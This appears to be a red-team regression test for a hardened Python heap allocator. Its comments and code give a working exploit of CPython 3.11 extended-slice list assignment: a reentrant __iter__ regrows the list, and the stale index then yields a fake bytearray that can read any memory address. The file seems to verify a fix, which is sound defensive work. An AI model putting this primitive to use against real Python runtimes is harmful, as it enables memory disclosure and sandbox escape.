# Red team round 25, against the one-time heap with the float free list closed: list's extended-slice
# assignment (3.11) measures the slice against the list's length, then reads the value out through the
# value's __iter__, then writes through the list's current item array. The __iter__ empties the list and
# extends it by 8: a new 64-byte item array at the top of its lane, followed by the lists the __iter__ makes
# next; the stale index lands on one of those lists' item pointer, which becomes a bytes object of ours,
# whose first word points at a fake empty bytearray of length 2**54 (in another bytes object): a reader of any
# address. Not a reuse (the heap's lanes make the neighbour predictable). Closed: hold_items reads the value
# out before list's own assignment measures anything, as 3.12 does.
# (After reentry/_prelude.py and _common.py: `f`, `touch`, `assert_structure`.)


def _words(*values):
    return b"".join(v.to_bytes(8, "little") for v in values)


# refcount, type, size, allocated, data, start, exports: an empty bytearray's header
_FAKE = _words(1 << 40, id(bytearray), 1 << 54, (1 << 54) + 1, 0, 0, 0)
_POINTER = _words(*[id(_FAKE) + 32] * 4)  # a bytes object's content starts 32 bytes in
_AT = 10 * (3 + 2) + 5  # the item array's data, one block, then the fourth list's item pointer


def reader():
    drain = [[] for _ in range(120)]  # the list free list emptied: the lists are cut from the lane
    for _ in range(20):
        target = [None] * (_AT + 10)
        lists = [None] * 16

        class Value:
            def __iter__(self):
                target.clear()
                target.extend((1, 2, 3, 4, 5, 6, 7, 8))
                for i in range(16):
                    lists[i] = [None] * 5
                return iter([_POINTER])

        target[_AT:_AT + 1:2] = Value()
        for victim in lists:
            if type(victim[4]) is bytearray:
                return victim[4], (victim, drain)
    raise RuntimeError("no reader")


def test_structure():
    mem, (victim, _drain) = reader()
    # the victim's size and item pointer zeroed before anything else runs: its end then touches nothing
    assert_structure(mem, lambda: mem.__setitem__(slice(id(victim) + 16, id(victim) + 32), bytes(16)))
